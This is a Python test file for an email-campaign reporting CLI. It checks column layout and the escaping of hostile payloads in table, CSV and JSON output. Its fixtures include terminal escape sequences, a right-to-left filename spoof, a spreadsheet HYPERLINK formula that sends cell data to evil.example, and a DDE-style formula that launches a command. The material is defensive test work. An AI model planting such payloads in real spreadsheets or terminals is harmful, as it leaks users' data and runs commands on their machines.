"""`receiver report` output for a terminal and a spreadsheet: tables that fit 120 columns,
payload text that cannot drive the terminal or run as a formula, JSON exact."""

import csv
import io
import json

from support.reporting import CLIENT, MINUTE, OTHER_CLIENT, T0, deliver, status_event

TERMINAL = 120
# Campaign's ids are 12 digits; a large send is millions of recipients.
MAILINGS = (187654321012, 187654321013, 187654321014)
HOSTILE = {
    "device": "\x1b]0;pwned\x07\x1b[2J\x1b[31mmobile",
    "browser": "Safari\u202egnp.exe",
    "operatingSystem": "iOS\r\x1b[1Aspoofed",
    "link": '=HYPERLINK("https://evil.example/?"&A1,"Click")',
}
FORMULA = "@SUM(1+1)*cmd|' /C calc'!A0"  # a recipient id
PHONE = "+491701234567"  # a recipient id that only looks like a formula: a number
ESCAPING_LINK = "https://example.com/\x1b[8m\u202eexe.txt"


def big_sends(client, query):
    """Three mailings of two clients, each with a real `sent` and the counts of a big send."""
    for n, mailing in enumerate(MAILINGS):
        owner = OTHER_CLIENT if n == 2 else CLIENT
        sent = status_event("sent", "r1", T0 + n * MINUTE + 123, f"s{n}", mailing, owner)
        deliver(client, sent)
        query(
            "INSERT INTO mailing_counts VALUES (%s, %s, 2450000, 1300000, 812345, 150000, 97654,"
            " 12345, 23456, 3456, 123, %s::timestamptz, %s::timestamptz) RETURNING 1",
            (owner, mailing, "2026-01-01T00:00:00.123456Z", "2026-01-09T23:59:59.987654Z"),
        )


def test_the_mailings_table_fits_a_terminal_and_wide_csv_json_keep_every_column(
    client, query, report
):
    big_sends(client, query)
    status, out = report("mailings", "--since", "2025-12-31", "--until", "2026-01-02")
    lines = out.splitlines()
    assert status == 0 and len(lines) == 4
    assert max(map(len, lines)) <= TERMINAL, out
    assert lines[0].split() == [
        "client_id", "mailing_id", "first_event_at", "sent", "unique_opens", "unique_clicks",
        "open_rate", "click_rate", "bounce_rate",
    ]  # fmt: skip
    assert f"{CLIENT}  {MAILINGS[0]}  2026-01-01T00:00Z  2450001" in out
    status, wide = report("mailings", "--since", "2025-12-31", "--until", "2026-01-02", "--wide")
    assert "last_event_at" in wide.splitlines()[0] and "2026-01-09T23:59:59.987654+00:00" in wide
    since = ("--since", "2025-12-31")
    csv_rows = list(csv.DictReader(io.StringIO(report("mailings", *since, "--format", "csv")[1])))
    json_out = report("mailings", *since, "--format", "json")[1]
    json_rows = [json.loads(line) for line in json_out.splitlines()]
    assert len(csv_rows) == len(json_rows) == 3
    assert list(csv_rows[0]) == list(json_rows[0]) == wide.splitlines()[0].split()
    assert json_rows[0]["complaint_rate"] == 0.0001  # 123 / 2,450,001


def hostile_mailing(client):
    """Opens and a click whose payload text is made to attack a terminal or a spreadsheet."""
    opened = {name: value for name, value in HOSTILE.items() if name != "link"}
    deliver(
        client,
        status_event("sent", FORMULA, T0, "s1"),
        status_event("sent", PHONE, T0, "s2"),
        status_event("doubleoptin", PHONE, T0, "d1"),
        status_event("open", PHONE, T0 + MINUTE, "o1", **opened),
        status_event("click", PHONE, T0 + MINUTE, "c1", link=HOSTILE["link"]),
        status_event("click", PHONE, T0 + 2 * MINUTE, "c2", link=ESCAPING_LINK),
        status_event("unsubscribe", FORMULA, T0 + MINUTE, "u1"),
    )


def test_tables_show_payload_control_characters_escaped(client, report):
    hostile_mailing(client)
    status, out = report("mailing", "1001", "--client", str(CLIENT))
    assert status == 0
    assert "\\x1b]0;pwned\\x07\\x1b[2J\\x1b[31mmobile" in out
    assert "Safari\\u202egnp.exe" in out and "iOS\\x0d\\x1b[1Aspoofed" in out
    assert "https://example.com/\\x1b[8m\\u202eexe.txt" in out
    assert out.replace("\n", "").isprintable(), repr(out)
    status, recipients = report("recipients", "--format", "table")
    assert status == 0 and FORMULA in recipients  # a terminal runs no formula


def test_csv_neutralises_payload_formulas_but_not_numbers(client, report):
    hostile_mailing(client)
    status, out = report("links", "1001", "--format", "csv")
    links = [(row["link"], row["clicks"]) for row in csv.DictReader(io.StringIO(out))]
    assert status == 0
    assert links == [("'" + HOSTILE["link"], "1"), (ESCAPING_LINK, "1")]
    status, out = report("recipients", "--format", "csv")
    rows = {row["recipient_id"]: row for row in csv.DictReader(io.StringIO(out))}
    assert set(rows) == {PHONE, "'" + FORMULA}
    assert rows["'" + FORMULA]["mailing_id"] == "1001"


def test_json_keeps_payload_text_exact(client, report):
    hostile_mailing(client)
    status, out = report("links", "1001", "--format", "json")
    assert status == 0
    assert [json.loads(line)["link"] for line in out.splitlines()] == [
        HOSTILE["link"], ESCAPING_LINK,
    ]  # fmt: skip
    assert "\\u001b[8m\\u202e" in out  # JSON's own escapes: nothing raw reaches a terminal
    status, out = report("recipients", "--format", "json")
    assert {json.loads(line)["recipient_id"] for line in out.splitlines()} == {
        PHONE, FORMULA,
    }  # fmt: skip
